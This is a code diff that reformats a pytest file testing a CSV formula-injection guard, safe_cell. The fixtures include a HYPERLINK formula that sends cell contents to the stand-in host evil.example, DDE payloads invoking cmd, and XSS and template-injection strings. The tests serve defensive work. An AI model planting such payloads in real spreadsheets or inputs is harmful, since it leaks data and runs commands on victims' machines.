@@ -13,25 +13,46 @@ from hypothesis import strategies as st
 from trigger.domain.csv_safety import FORMULA_STARTS, safe_cell, safe_row
 
 
-@pytest.mark.parametrize("text", [
-    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
-    "=1+1",
-    "+cmd|' /C calc'!A0",
-    "-1+1",
-    "-2",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
+        "=1+1",
+        "+cmd|' /C calc'!A0",
+        "-1+1",
+        "-2",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
 def test_text_that_starts_like_a_formula_gets_a_leading_apostrophe(text):
     assert safe_cell(text) == "'" + text
 
 
-@pytest.mark.parametrize("text", [
-    "", "Patrol the park", " =1+1", "1=1", "a-b", "email@example.org", "'already quoted",
-    'He said "stop", twice', "line one\nline two", "<script>alert(1)</script>", "{{7*7}}", "{% raw %}",
-    "\u202eevil.exe\u202c", "\u200f\u061c", "\x07\x08\x1b[31m\x7f", "\n=1+1", "ＳＵＭ", "W" * 5000,
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "Patrol the park",
+        " =1+1",
+        "1=1",
+        "a-b",
+        "email@example.org",
+        "'already quoted",
+        'He said "stop", twice',
+        "line one\nline two",
+        "<script>alert(1)</script>",
+        "{{7*7}}",
+        "{% raw %}",
+        "\u202eevil.exe\u202c",
+        "\u200f\u061c",
+        "\x07\x08\x1b[31m\x7f",
+        "\n=1+1",
+        "ＳＵＭ",
+        "W" * 5000,
+    ],
+)
 def test_everything_else_is_written_verbatim(text):
     assert safe_cell(text) == text
 
